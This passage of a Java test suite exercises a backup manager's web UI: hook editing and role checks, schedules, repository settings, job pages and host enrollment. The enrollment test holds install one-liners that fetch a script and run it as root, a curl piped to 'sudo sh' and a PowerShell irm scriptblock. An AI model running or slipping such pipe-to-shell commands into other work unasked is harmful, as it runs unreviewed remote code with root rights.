                {"name":"nightly","cron":"0 2 * * *","timezone":"UTC","paths":["/srv","/etc"],"excludes":null,"tags":null,
                 "limit_upload_kib":null,"limit_download_kib":null,"use_fs_snapshot":false}""")));
    }

    @Test
    void nonAdminsSeeWhetherHooksAreSetButNoTextareasAndNoHookText() {
        // even if an answer carried the text, no page shows it to a non-admin
        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.HOOKED_SCHEDULES)
                .on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN);

        for (String role : List.of("viewer", "operator")) {
            for (String path : List.of("/hosts/" + WEB, "/hosts/" + WEB + "/schedules",
                                       "/hosts/" + WEB + "/schedules?edit=" + SCHEDULE)) {
                Page page = get(path, role);
                assertThat(path, page.status(), is(200));
                assertThat(role + " " + path, page.body(), not(containsString("systemctl")));
                assertThat(role + " " + path, page.body(), not(containsString("pg_dump -Fc app")));
                assertThat(role + " " + path, page.body(), not(containsString("<textarea id=\"schedule-pre-hook\"")));
                assertThat(role + " " + path, page.body(), not(containsString("name=\"pre_hook\"")));
                assertThat(role + " " + path, page.body(), not(containsString("name=\"post_hook\"")));
                assertThat(role + " " + path, page.body(), not(containsString("host-hooks-form")));
                assertThat(text(page.body(), "hooks-pre"), is("set"));
                assertThat(text(page.body(), "hooks-post"), is("none"));
                assertThat(text(page.body(), "hooks-shell"), is("/bin/sh -c"));
                assertThat(text(page.body(), "hooks-timeout"), is("900 s (15 min)"));
            }
        }
        // the rows: a "hooks" badge on the schedule with hooks only
        Page list = get("/hosts/" + WEB + "/schedules", "viewer");
        assertThat(rowOf(list.body(), "schedule-row", SCHEDULE), containsString(
                "nightly <span class=\"tag hooks-badge\" title=\"Runs a pre- and a post-backup hook\">hooks"));
        assertThat(rowOf(list.body(), "schedule-row", "s-weekly"), not(containsString("hooks-badge")));

        Page operator = get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, "operator");
        assertThat(text(operator.body(), "schedule-hooks-state"), startsWith("Hooks: pre-hook set · post-hook set"));
        Page plain = get("/hosts/" + WEB + "/schedules?edit=s-weekly", "operator");
        assertThat(text(plain.body(), "schedule-hooks-state"), startsWith("Hooks: pre-hook none · post-hook none"));
        assertThat(text(plain.body(), "schedule-hooks-state"), containsString("runs the host's default hooks"));

        Page admin = get("/hosts/" + WEB, "admin");
        assertThat(admin.body(), containsString("id=\"host-hooks-form\""));
        assertThat(admin.body(), containsString(">pg_dump -Fc app -f /var/backups/app.dump</textarea>"));
    }

    @Test
    void hostHooksPutOnlyTheChangedFields() {
        GATEWAY.on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN)
                .on("PUT", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN);
        String put = "/api/hosts/" + WEB + "/hooks";

        Page page = get("/hosts/" + WEB, "admin");
        String card = page.body().substring(page.body().indexOf("id=\"host-hooks\""), page.body().indexOf("id=\"host-tabs\""));
        assertThat(card, containsString("<details class=\"hooks-edit\" id=\"hooks-edit\">"));
        assertThat(card, containsString("<input type=\"hidden\" name=\"was_pre_hook\" value=\"pg_dump -Fc app -f /var/backups/app.dump\">"));
        assertThat(card, containsString("<input type=\"hidden\" name=\"was_post_hook\" value=\"\">"));
        assertThat(card, containsString("<input type=\"hidden\" name=\"was_hook_shell\" value=\"/bin/sh -c\">"));
        assertThat(card, containsString("<input type=\"hidden\" name=\"was_hook_timeout_s\" value=\"900\">"));
        assertThat(card, containsString("name=\"hook_shell\" value=\"/bin/sh -c\""));
        assertThat(card, containsString("name=\"hook_timeout_s\" type=\"number\" min=\"1\" max=\"86400\" step=\"1\" inputmode=\"numeric\" value=\"900\""));
        assertThat(text(card, "hooks-pre-warning"), containsString("Runs as root on this host before every backup"));
        assertThat(text(card, "hooks-pre-warning"), containsString("a failing pre-hook cancels the backup."));
        assertThat(text(card, "hooks-post-warning"), containsString("whatever the outcome (RM_JOB_STATUS tells it)."));
        assertThat(text(card, "hooks-secrets-warning"), containsString("Output is stored in the job log: never echo secrets."));
        int forms = count(page.body(), "<form ");
        assertThat(count(page.body(), "name=\"_csrf\" value=\"" + CSRF + "\""), is(forms));

        String[] shown = {"was_pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "was_post_hook", "",
                "was_hook_shell", "/bin/sh -c", "was_hook_timeout_s", "900"};
        // a new post-hook and another shell ("/bin/bash -e -c" split on spaces); the pre-hook and timeout as shown
        Page saved = post("/hosts/" + WEB + "/hooks", "admin", form(concat(shown, new String[] {
                "pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "post_hook", "rm -f /var/backups/app.dump\r\n",
                "hook_shell", " /bin/bash  -e -c ", "hook_timeout_s", "900"})));
        assertThat(saved.status(), is(303));
        assertThat(saved.header("Location"), is("/hosts/" + WEB + "?saved=hooks"));
        assertThat(GATEWAY.seen("PUT", put).getLast().body(),
                   is("{\"post_hook\":\"rm -f /var/backups/app.dump\\n\",\"hook_shell\":[\"/bin/bash\",\"-e\",\"-c\"]}"));
        assertThat(text(get(saved.header("Location"), "admin").body(), "hooks-saved"), containsString("Default hooks saved"));

        // emptied: no pre-hook, the default shell, the default timeout (null each)
        post("/hosts/" + WEB + "/hooks", "admin", form(concat(shown, new String[] {
                "pre_hook", "", "post_hook", "", "hook_shell", "", "hook_timeout_s", ""})));
        assertThat(GATEWAY.seen("PUT", put).getLast().body(),
                   is("{\"pre_hook\":null,\"hook_shell\":null,\"hook_timeout_s\":null}"));

        post("/hosts/" + WEB + "/hooks", "admin", form(concat(shown, new String[] {
                "pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "post_hook", "", "hook_shell", "/bin/sh -c",
                "hook_timeout_s", "60"})));
        assertThat(GATEWAY.seen("PUT", put).getLast().body(), is("{\"hook_timeout_s\":60}"));
        assertThat(GATEWAY.seen("PUT", put), hasSize(3));

        Page unchanged = post("/hosts/" + WEB + "/hooks", "admin", form(concat(shown, new String[] {
                "pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "post_hook", " ",
                "hook_shell", "/bin/sh   -c", "hook_timeout_s", "900"})));
        assertThat(unchanged.header("Location"), is("/hosts/" + WEB + "?saved=hooks-unchanged"));
        assertThat(GATEWAY.seen("PUT", put), hasSize(3));

        // not an admin: refused here, no call
        Page operator = post("/hosts/" + WEB + "/hooks", "operator", form(concat(shown, new String[] {"pre_hook", "id"})));
        assertThat(operator.status(), is(403));
        assertThat(text(operator.body(), "host-hooks"), containsString("needs the admin role"));
        assertThat(GATEWAY.seen("PUT", put), hasSize(3));
    }

    @Test
    void aRejectedHooksSaveReRendersWithTheDetailAndTheInputKept() {
        GATEWAY.on("GET", "/api/hosts/" + WEB + "/hooks", 200, Fixtures.HOST_HOOKS_ADMIN)
                .on("PUT", "/api/hosts/" + WEB + "/hooks", 422, "{\"type\":\"about:blank\",\"title\":\"Unprocessable Content\","
                        + "\"status\":422,\"detail\":\"hook_shell must be an absolute program path and at most three arguments\"}");

        Page res = post("/hosts/" + WEB + "/hooks", "admin", form(
                "was_pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "was_post_hook", "",
                "was_hook_shell", "/bin/sh -c", "was_hook_timeout_s", "900",
                "pre_hook", "pg_dump -Fc app -f /var/backups/app.dump", "post_hook", "rm -f /tmp/<dump>",
                "hook_shell", "/usr/bin/env bash -e -o", "hook_timeout_s", "120"));

        assertThat(res.status(), is(422));
        String card = res.body().substring(res.body().indexOf("id=\"host-hooks\""), res.body().indexOf("id=\"host-tabs\""));
        assertThat(card, containsString("<details class=\"hooks-edit\" id=\"hooks-edit\" open>"));
        String hooksForm = card.substring(card.indexOf("id=\"host-hooks-form\""));
        assertThat(hooksForm, containsString("class=\"problem\""));
        assertThat(hooksForm, containsString("hook_shell must be an absolute program path and at most three arguments"));
        assertThat(hooksForm, containsString(">rm -f /tmp/&lt;dump&gt;</textarea>"));
        assertThat(hooksForm, containsString("name=\"hook_shell\" value=\"/usr/bin/env bash -e -o\""));
        assertThat(hooksForm, containsString("inputmode=\"numeric\" value=\"120\""));
        // still compared with what the form was first shown with
        assertThat(hooksForm, containsString("<input type=\"hidden\" name=\"was_hook_shell\" value=\"/bin/sh -c\">"));
        assertThat(hooksForm, containsString("<input type=\"hidden\" name=\"was_hook_timeout_s\" value=\"900\">"));
        // the stored state next to it is unchanged; the rest of the page still renders
        assertThat(text(res.body(), "hooks-post"), is("none"));
        assertThat(res.body(), containsString("class=\"snapshot-row\""));
        assertThat(GATEWAY.seen("PUT", "/api/hosts/" + WEB + "/hooks").getFirst().body(), is(
                "{\"post_hook\":\"rm -f /tmp/<dump>\",\"hook_shell\":[\"/usr/bin/env\",\"bash\",\"-e\",\"-o\"],\"hook_timeout_s\":120}"));

        // caught before the API, the input kept
        for (String[] bad : new String[][] {{"hook_shell", "sh -c", "absolute path"},
                {"hook_shell", "/bin/bash -e -o pipefail -c", "at most three arguments"},
                {"hook_timeout_s", "86401", "from 1 to 86400 seconds"},
                {"pre_hook", "x".repeat(16 * 1024 + 1), "the most is 16384 (16 KiB)"}}) {
            Page local = post("/hosts/" + WEB + "/hooks", "admin", form("was_hook_shell", "/bin/sh -c",
                                                                         "was_hook_timeout_s", "900", bad[0], bad[1]));
            assertThat(bad[0], local.status(), is(422));
            assertThat(bad[0], text(local.body(), "host-hooks-form"), containsString(bad[2]));
            if (!bad[0].equals("pre_hook")) {
                assertThat(local.body(), containsString("name=\"" + bad[0] + "\"" + (bad[0].equals("hook_shell") ? " value=\"" + bad[1] + "\"" : "")));
            }
        }
        assertThat(GATEWAY.seen("PUT", "/api/hosts/" + WEB + "/hooks"), hasSize(1));
    }

    @Test
    void aRejectedScheduleWithHooksReRendersWithTheDetailAndTheHooksKept() {
        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.HOOKED_SCHEDULES)
                .on("PATCH", "/api/schedules/" + SCHEDULE, 422, "{\"type\":\"about:blank\",\"title\":\"Unprocessable Content\","
                        + "\"status\":422,\"detail\":\"pre_hook must be at most 16384 characters without NUL\"}");

        Page res = post("/hosts/" + WEB + "/schedules", "admin", form(
                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
                "timezone", "UTC", "paths", "/srv", "was_pre_hook", "systemctl stop app", "pre_hook", "systemctl stop app && sync",
                "was_post_hook", "systemctl start app\r\necho restarted", "post_hook", ""));

        assertThat(res.status(), is(422));
        String form = res.body().substring(res.body().indexOf("id=\"edit-schedule-form\""));
        assertThat(form, containsString("class=\"problem\""));
        assertThat(form, containsString("pre_hook must be at most 16384 characters without NUL"));
        assertThat(form, containsString(">systemctl stop app &amp;&amp; sync</textarea>"));
        assertThat(form, containsString("aria-describedby=\"schedule-post-hook-warning\"></textarea>"));
        assertThat(form, containsString("<input type=\"hidden\" name=\"was_pre_hook\" value=\"systemctl stop app\">"));
        assertThat(form, containsString("<input type=\"hidden\" name=\"was_post_hook\" value=\"systemctl start app\r\necho restarted\">"));
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).path("pre_hook").asText(), is("systemctl stop app && sync"));
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).path("post_hook").isNull(), is(true));
    }

    @Test
    void runNowSendsBothLimitsAndEveryKeepRule() {
        GATEWAY.on("POST", "/api/hosts/" + WEB + "/jobs", 202, "{\"job_id\":\"" + JOB + "\",\"status\":\"queued\"}");

        Page backup = post("/hosts/" + WEB + "/actions", "operator", form(
                "action", "backup", "paths", "/srv", "excludes", "", "tags", "", "limit_upload_kib", "512",
                "limit_download_kib", "1024"));
        assertThat(backup.status(), is(303));
        assertThat(lastBody("POST", "/api/hosts/" + WEB + "/jobs"), is(json("""
                {"kind":"backup","paths":["/srv"],"limit_upload_kib":512,"limit_download_kib":1024}""")));

        String[] rules = {"keep_last", "3", "keep_hourly", "24", "keep_daily", "7", "keep_weekly", "4",
                "keep_monthly", "12", "keep_yearly", "2", "keep_within", "1y2m3d4h", "keep_tags", "gold, legal",
                "prune", "on"};
        Page confirm = post("/hosts/" + WEB + "/actions", "operator", form(concat(new String[] {"action", "forget"}, rules)));
        assertThat(confirm.body(), containsString("Keep every snapshot tagged gold, legal"));
        assertThat(confirm.body(), containsString("<input type=\"hidden\" name=\"keep_tags\" value=\"gold, legal\">"));
        Page forget = post("/hosts/" + WEB + "/actions", "operator",
                           form(concat(new String[] {"action", "forget", "confirm", "yes"}, rules)));
        assertThat(forget.status(), is(303));
        assertThat(lastBody("POST", "/api/hosts/" + WEB + "/jobs"), is(json("""
                {"kind":"forget","policy":{"keep_last":3,"keep_hourly":24,"keep_daily":7,"keep_weekly":4,
                 "keep_monthly":12,"keep_yearly":2,"keep_within":"1y2m3d4h","keep_tags":["gold","legal"],"prune":true}}""")));

        Page bad = post("/hosts/" + WEB + "/actions", "operator", form(
                "action", "backup", "paths", "/srv", "limit_download_kib", "fast"));
        assertThat(bad.status(), is(422));
        assertThat(bad.body(), containsString("Download limit must be a whole number"));
        assertThat(bad.body(), containsString("id=\"backup-limit-download\" name=\"limit_download_kib\" type=\"number\" min=\"1\" step=\"1\" inputmode=\"numeric\" value=\"fast\""));
        assertThat(GATEWAY.seen("POST", "/api/hosts/" + WEB + "/jobs"), hasSize(2));
    }

    private static String[] concat(String[] a, String[] b) {
        String[] out = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    @Test
    void operatorPausesResumesAndDeletesASchedule() {
        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.SCHEDULES)
                .on("PATCH", "/api/schedules/" + SCHEDULE, 200, "{}")
                .on("DELETE", "/api/schedules/" + SCHEDULE, 204, "");

        Page paused = post("/hosts/" + WEB + "/schedules", "operator",
                           form("action", "disable", "schedule_id", SCHEDULE));
        assertThat(paused.status(), is(303));
        assertThat(paused.header("Location"), is("/hosts/" + WEB + "/schedules?saved=disabled"));
        assertThat(GATEWAY.seen("PATCH", "/api/schedules/" + SCHEDULE).getFirst().body(), is("{\"enabled\":false}"));
        post("/hosts/" + WEB + "/schedules", "operator", form("action", "enable", "schedule_id", SCHEDULE));
        assertThat(GATEWAY.seen("PATCH", "/api/schedules/" + SCHEDULE).getLast().body(), is("{\"enabled\":true}"));

        Page deleted = post("/hosts/" + WEB + "/schedules", "operator", form("action", "delete", "schedule_id", SCHEDULE));
        assertThat(deleted.header("Location"), is("/hosts/" + WEB + "/schedules?saved=deleted"));
        assertThat(GATEWAY.seen("DELETE", "/api/schedules/" + SCHEDULE), hasSize(1));

        Page viewer = post("/hosts/" + WEB + "/schedules", "viewer", form("action", "delete", "schedule_id", SCHEDULE));
        assertThat(viewer.status(), is(403));
        assertThat(viewer.body(), containsString("needs the operator role"));
        assertThat(GATEWAY.seen("DELETE", "/api/schedules/" + SCHEDULE), hasSize(1));
    }

    @Test
    void snapshotsTabIsPagedWithTheNextCursor() {
        Page page = get("/hosts/" + WEB, "viewer");

        assertThat(count(page.body(), "class=\"snapshot-row\""), is(2));
        assertThat(page.body(), containsString("a1b2c3d4"));
        assertThat(page.body(), containsString("/etc, /home"));
        assertThat(page.body(), containsString("href=\"/hosts/" + WEB + "?cursor=c-2\""));
        assertThat(page.body(), containsString("aria-current=\"page\">Snapshots"));

        get("/hosts/" + WEB + "?cursor=c-2", "viewer");
        StubGateway.Seen call = GATEWAY.seen("GET", "/api/hosts/" + WEB + "/snapshots").getLast();
        assertThat(call.query(), containsString("cursor=c-2"));
    }

    @Test
    void finishedJobShowsLogAndSummary() {
        Page page = get("/jobs/" + JOB, "operator");

        assertThat(page.status(), is(200));
        assertThat(text(page.body(), "job-status"), is("✓ Succeeded"));
        assertThat(page.body(), containsString("data-status=\"succeeded\""));
        assertThat(count(page.body(), "class=\"log-line"), is(2));
        assertThat(page.body(), containsString("warning: &lt;unreadable&gt; /root"));
        assertThat(page.body(), containsString("data-last-seq=\"2\""));
        assertThat(page.body(), containsString("id=\"job-summary\""));
        assertThat(page.body(), containsString("1a2b3c4d"));
        assertThat(page.body(), containsString("1.2 MiB"));
        assertThat(page.body(), containsString("3 min 12 s"));
        assertThat(page.body(), containsString("id=\"refresh-link\""));
        assertThat(page.body(), not(containsString("id=\"cancel-form\"")));
        assertThat(page.body(), containsString("<script src=\"/assets/live-log.js\" defer></script>"));
    }

    @Test
    void runningJobOffersCancelToOperatorsOnlyAndPollsItsHead() {
        GATEWAY.on("GET", "/api/jobs/" + JOB, 200, Fixtures.JOB_RUNNING)
                .on("GET", "/api/jobs/" + JOB + "/logs", 200, Fixtures.NO_LOGS)
                .on("POST", "/api/jobs/" + JOB + "/cancel", 202, "");

        Page operator = get("/jobs/" + JOB, "operator");
        assertThat(operator.body(), containsString("id=\"cancel-form\""));
        assertThat(operator.body(), containsString("id=\"log-empty\""));
        assertThat(get("/jobs/" + JOB, "viewer").body(), not(containsString("id=\"cancel-form\"")));

        Page head = get("/jobs/" + JOB, "viewer", "HX-Request", "true");
        assertThat(head.body(), startsWith("<section id=\"job-head\""));
        assertThat(head.body(), containsString("hx-trigger=\"every 5s, jobfinished from:body\""));

        Page cancel = post("/jobs/" + JOB + "/cancel", "operator", form());
        assertThat(cancel.status(), is(303));
        assertThat(GATEWAY.seen("POST", "/api/jobs/" + JOB + "/cancel"), hasSize(1));
    }

    @Test
    void reposListAndAddFormNeverEchoSecrets() {
        Page list = get("/repos", "admin");
        assertThat(list.body(), containsString("class=\"repo-row\""));
        assertThat(list.body(), containsString("✓ yes"));
        assertThat(list.body(), containsString("5.0 GiB"));
        assertThat(list.body(), containsString("id=\"repo-form\""));
        assertThat(get("/repos", "viewer").body(), not(containsString("id=\"repo-form\"")));

        GATEWAY.on("POST", "/api/repos", 422,
                   "{\"title\":\"Unprocessable Content\",\"status\":422,\"detail\":\"url: unsupported backend 'ftp'\"}");
        Page res = post("/repos", "admin", form("name", "offsite", "url", "ftp://x", "password", "s3cret-pw",
                                                "env", "AWS_SECRET_ACCESS_KEY=topsecret", "prune_password", "pr-pw"));
        assertThat(res.status(), is(422));
        assertThat(res.body(), containsString("unsupported backend &#39;ftp&#39;"));
        assertThat(res.body(), containsString("value=\"offsite\""));
        assertThat(res.body(), containsString("value=\"ftp://x\""));
        assertThat(res.body(), not(containsString("s3cret-pw")));
        assertThat(res.body(), not(containsString("topsecret")));
        assertThat(res.body(), not(containsString("pr-pw")));
        JsonNode sent = Http.tree(GATEWAY.seen("POST", "/api/repos").getFirst().body());
        assertThat(sent.path("env").path("AWS_SECRET_ACCESS_KEY").asText(), is("topsecret"));
        assertThat(sent.path("prune_password").asText(), is("pr-pw"));
    }

    @Test
    void malformedEnvironmentLineIsRejectedWithoutQuotingIt() {
        Page res = post("/repos", "admin", form("name", "n", "url", "/srv/r", "password", "pw",
                                                "env", "AWS_KEY topsecret-value"));

        assertThat(res.status(), is(422));
        assertThat(res.body(), containsString("line 1 is not KEY=VALUE"));
        assertThat(res.body(), not(containsString("topsecret-value")));
        assertThat(GATEWAY.seen("POST", "/api/repos"), empty());
    }

    @Test
    void repoPageShowsTheMaintenanceHostAndTheLeaseOnDiskStateAndOnlyAdminsGetForms() {
        GATEWAY.on("GET", "/api/repos/" + REPO, 200, Fixtures.repo(true, DB, 14, true));
        assertThat(get("/repos", "viewer").body(), containsString("<a href=\"/repos/" + REPO + "\">nas</a>"));

        for (String role : List.of("viewer", "operator")) {
            Page page = get("/repos/" + REPO, role);
            // operators get the repository's unlock and measure buttons, nothing of its settings
            String body = role.equals("viewer") ? page.body() : page.body()
                    .replaceAll("(?s)<form id=\"(unlock|refresh-stats)-form\".*?</form>", "");
            assertThat(role, page.status(), is(200));
            assertThat(role, text(page.body(), "repo-name"), is("nas"));
            assertThat(role, page.body(), containsString("<dd id=\"maintenance-host\"><a href=\"/hosts/" + DB
                    + "\">db-1</a></dd>"));
            assertThat(role, text(page.body(), "offline-lease-days"), is("14 days"));
            assertThat(role, text(page.body(), "offline-lease-on-disk"), startsWith("On: written to the agents' disk"));
            assertThat(role, page.body(), not(containsString("id=\"maintenance-needed\"")));
            assertThat(role, body, not(containsString("<form id=")));
            assertThat(role, body, not(containsString("method=\"post\" action=\"/repos/")));
        }

        Page admin = get("/repos/" + REPO, "admin");
        assertThat(count(admin.body(), "method=\"post\" action=\"/repos/" + REPO + "\""), is(4));
        assertThat(admin.body(), containsString("<option value=\"\">None: each host maintains its own snapshots</option>"));
        assertThat(admin.body(), containsString("<option value=\"" + DB + "\" selected>db-1</option>"));
        assertThat(admin.body(), containsString("<option value=\"" + WEB + "\">web-1</option>"));
        // the API refuses a disabled host, so it is not offered
        assertThat(admin.body(), not(containsString("<option value=\"" + OLD + "\"")));
        assertThat(admin.body(), containsString("name=\"offline_lease_days\" type=\"number\" min=\"0\" max=\"365\" "
                + "step=\"1\" inputmode=\"numeric\" required value=\"14\">"));
        assertThat(admin.body(), containsString("name=\"offline_lease_on_disk\" type=\"checkbox\" checked>"));
        assertThat(text(admin.body(), "offline-lease-on-disk-explained"), startsWith(
                "Off: the credential lives only in the agent's memory; an agent restarted during an outage cannot "
                        + "back up until the server is back. On: it is written to the host's disk (readable by root)"));
        assertThat(count(admin.body(), "name=\"_csrf\" value=\"" + CSRF + "\""), is(count(admin.body(), "<form ")));
    }

    @Test
    void aRepoWithAPruneCredentialButNoMaintenanceHostSaysForgetAndPruneAreRefused() {
        GATEWAY.on("GET", "/api/repos/" + REPO, 200, Fixtures.repo(true, null, 7, false));

        Page page = get("/repos/" + REPO, "viewer");
        assertThat(text(page.body(), "maintenance-host"), is("None: each host maintains its own snapshots"));
        assertThat(text(page.body(), "maintenance-needed"), containsString(
                "name a maintenance host to run forget and prune"));
        assertThat(text(page.body(), "offline-lease-days"), is("7 days"));
        assertThat(text(page.body(), "offline-lease-on-disk"), is("Off: only in the agents' memory"));
        Page admin = get("/repos/" + REPO, "admin");
        assertThat(admin.body(), containsString("<option value=\"\" selected>None: each host maintains its own snapshots"));
        assertThat(admin.body(), containsString("name=\"offline_lease_on_disk\" type=\"checkbox\">"));

        // the same repository without a separate prune credential: each host forgets and prunes with its own
        GATEWAY.on("GET", "/api/repos/" + REPO, 200, Fixtures.repo(false, null, 0, false));
        Page plain = get("/repos/" + REPO, "viewer");
        assertThat(plain.body(), not(containsString("id=\"maintenance-needed\"")));
        assertThat(text(plain.body(), "offline-lease-days"), startsWith("never"));

        // a maintenance host that is no longer enrolled: named by its id, and the refusal explained
        GATEWAY.on("GET", "/api/repos/" + REPO, 200, Fixtures.repo(true, NEW_HOST, 7, false));
        Page gone = get("/repos/" + REPO, "viewer");
        assertThat(text(gone.body(), "maintenance-host"), is(NEW_HOST.substring(0, 8) + " (no longer enrolled)"));
        assertThat(text(gone.body(), "maintenance-blocked"), containsString("refused while the maintenance host is gone"));
    }

    @Test
    void adminFormsPatchOnlyTheFieldsTheyChanged() {
        GATEWAY.on("GET", "/api/repos/" + REPO, 200, Fixtures.repo(true, null, 7, false))
                .on("PATCH", "/api/repos/" + REPO, 200, Fixtures.repo(true, WEB, 7, false));
        String patch = "/api/repos/" + REPO;

        Page named = post("/repos/" + REPO, "admin", form("action", "maintenance", "maintenance_host_id", WEB));
        assertThat(named.status(), is(303));
        assertThat(named.header("Location"), is("/repos/" + REPO + "?saved=maintenance"));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().body(), is("{\"maintenance_host_id\":\"" + WEB + "\"}"));
        assertThat(get(named.header("Location"), "admin").body(), containsString("Maintenance host saved."));

        // "none" is an explicit null: a PATCH that left the field out would keep the host
        post("/repos/" + REPO, "admin", form("action", "maintenance", "maintenance_host_id", ""));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().body(), is("{\"maintenance_host_id\":null}"));

        Page ticked = post("/repos/" + REPO, "admin", form("action", "lease", "was_offline_lease_days", "7",
                "was_offline_lease_on_disk", "false", "offline_lease_days", "7", "offline_lease_on_disk", "on"));
        assertThat(ticked.header("Location"), is("/repos/" + REPO + "?saved=lease"));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().body(), is("{\"offline_lease_on_disk\":true}"));

        // an unticked checkbox sends nothing; the hidden was-value tells it from "unchanged"
        post("/repos/" + REPO, "admin", form("action", "lease", "was_offline_lease_days", "7",
                "was_offline_lease_on_disk", "true", "offline_lease_days", "3"));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().body(),
                   is("{\"offline_lease_days\":3,\"offline_lease_on_disk\":false}"));

        post("/repos/" + REPO, "admin", form("action", "lease", "was_offline_lease_days", "7",
                "was_offline_lease_on_disk", "false", "offline_lease_days", " 0 "));
        assertThat(GATEWAY.seen("PATCH", patch).getLast().body(), is("{\"offline_lease_days\":0}"));
        assertThat(GATEWAY.seen("PATCH", patch), hasSize(5));

        Page unchanged = post("/repos/" + REPO, "admin", form("action", "lease", "was_offline_lease_days", "7",
                "was_offline_lease_on_disk", "false", "offline_lease_days", "7"));
        assertThat(unchanged.header("Location"), is("/repos/" + REPO + "?saved=unchanged"));
        assertThat(GATEWAY.seen("PATCH", patch), hasSize(5));
    }

    @Test
    void aRefusedRepoSettingReRendersWithTheDetailNextToItsForm() {
        GATEWAY.on("GET", "/api/repos/" + REPO, 200, Fixtures.repo(true, null, 7, false))
                .on("PATCH", "/api/repos/" + REPO, 422, "{\"type\":\"about:blank\",\"title\":\"Unprocessable Content\","
                        + "\"status\":422,\"detail\":\"maintenance_host_id: no host " + NEW_HOST + "\"}");

        Page res = post("/repos/" + REPO, "admin", form("action", "maintenance", "maintenance_host_id", NEW_HOST));
        assertThat(res.status(), is(422));
        String maintenance = res.body().substring(res.body().indexOf("id=\"maintenance-host-form\""),
                                                  res.body().indexOf("id=\"repo-lease\""));
        assertThat(maintenance, containsString("class=\"problem\""));
        assertThat(maintenance, containsString("maintenance_host_id: no host " + NEW_HOST));
        assertThat(res.body().substring(res.body().indexOf("id=\"repo-lease\"")), not(containsString("class=\"problem\"")));
        assertThat(GATEWAY.seen("PATCH", "/api/repos/" + REPO).getFirst().body(),
                   is("{\"maintenance_host_id\":\"" + NEW_HOST + "\"}"));

        // caught before the API, with the input kept and the values it was shown with unchanged
        Page days = post("/repos/" + REPO, "admin", form("action", "lease", "was_offline_lease_days", "7",
                "was_offline_lease_on_disk", "false", "offline_lease_days", "400", "offline_lease_on_disk", "on"));
        assertThat(days.status(), is(422));
        String lease = days.body().substring(days.body().indexOf("id=\"offline-lease-form\""));
        assertThat(lease, containsString("Offline lease must be from 0 to 365."));
        assertThat(lease, containsString("required value=\"400\">"));
        assertThat(lease, containsString("name=\"offline_lease_on_disk\" type=\"checkbox\" checked>"));
        assertThat(lease, containsString("name=\"was_offline_lease_days\" value=\"7\">"));
        assertThat(lease, containsString("name=\"was_offline_lease_on_disk\" value=\"false\">"));
        assertThat(GATEWAY.seen("PATCH", "/api/repos/" + REPO), hasSize(1));
    }

    @Test
    void addHostShowsTheInstallCommandAndSpotsTheNewHost() {
        GATEWAY.on("POST", "/api/enrollment-tokens", 201, """
                {"token":"rme_tok","expires_at":"2099-01-01T00:00:00Z",
                 "install_command":"curl -fsSL http://127.0.0.1:8080/install.sh | sudo sh -s -- --token rme_tok",
                 "install_command_windows":"& ([scriptblock]::Create((irm http://127.0.0.1:8080/install.ps1))) -Token rme_tok"}""");

        assertThat(get("/hosts/new", "admin").body(), containsString("id=\"enroll-form\""));
        Page res = post("/hosts/new", "admin", form("expires_in_s", "3600"));
        assertThat(res.status(), is(201));
        assertThat(text(res.body(), "install-command"),
                   is("curl -fsSL http://127.0.0.1:8080/install.sh | sudo sh -s -- --token rme_tok"));
        assertThat(res.body(), containsString("id=\"copy-install-command\""));
        // the same one-time token as a PowerShell one-liner, for a Windows host (HTML-escaped in the page)
        assertThat(text(res.body(), "install-command-windows"),
                   is("&amp; ([scriptblock]::Create((irm http://127.0.0.1:8080/install.ps1))) -Token rme_tok"));
        assertThat(GATEWAY.seen("POST", "/api/enrollment-tokens").getFirst().body(), is("{\"expires_in_s\":3600}"));
        Matcher watch = Pattern.compile("hx-get=\"(/hosts/new/watch\\?known=[^\"]*)\"").matcher(res.body());
        assertThat(watch.find(), is(true));
        String watchUrl = watch.group(1);

        Page waiting = get(watchUrl, "admin", "HX-Request", "true");
        assertThat(waiting.body(), containsString("Waiting for the host to enroll"));

        GATEWAY.on("GET", "/api/hosts", 200, HOSTS.replace("]}", ",{\"id\":\"" + NEW_HOST
                + "\",\"name\":\"fresh-box\",\"status\":\"online\",\"tags\":[]}]}"));
        Page found = get(watchUrl, "admin", "HX-Request", "true");
        assertThat(found.body(), containsString("✓ <a href=\"/hosts/" + NEW_HOST + "\">fresh-box</a> enrolled"));
        assertThat(found.body(), not(containsString("hx-trigger")));
    }

    @Test
    void assetsAreServedLocallyWithRevalidation() {
        try (var htmx = ui.client().get("/assets/htmx.min.js").header(HeaderNames.create("X-RM-Internal-Token"), TOKEN).request()) {
            assertThat(htmx.status().code(), is(200));
            assertThat(htmx.headers().first(HeaderNames.CONTENT_TYPE).orElse(""), startsWith("text/javascript"));
            String etag = htmx.headers().first(HeaderNames.ETAG).orElseThrow();
            try (var again = ui.client().get("/assets/htmx.min.js").header(HeaderNames.create("X-RM-Internal-Token"), TOKEN)
                    .header(HeaderNames.IF_NONE_MATCH, etag).request()) {
                assertThat(again.status().code(), is(304));
            }
        }
        Map<String, String> types = Map.of("app.css", "text/css", "app.js", "text/javascript",
                                           "live-log.js", "text/javascript", "favicon.svg", "image/svg+xml",
                                           "htmx.min.js", "text/javascript");
        types.forEach((asset, type) -> {
            Page page = get("/assets/" + asset, null);
            assertThat(asset, page.status(), is(200));
            assertThat(asset, page.header("Content-Type"), startsWith(type));
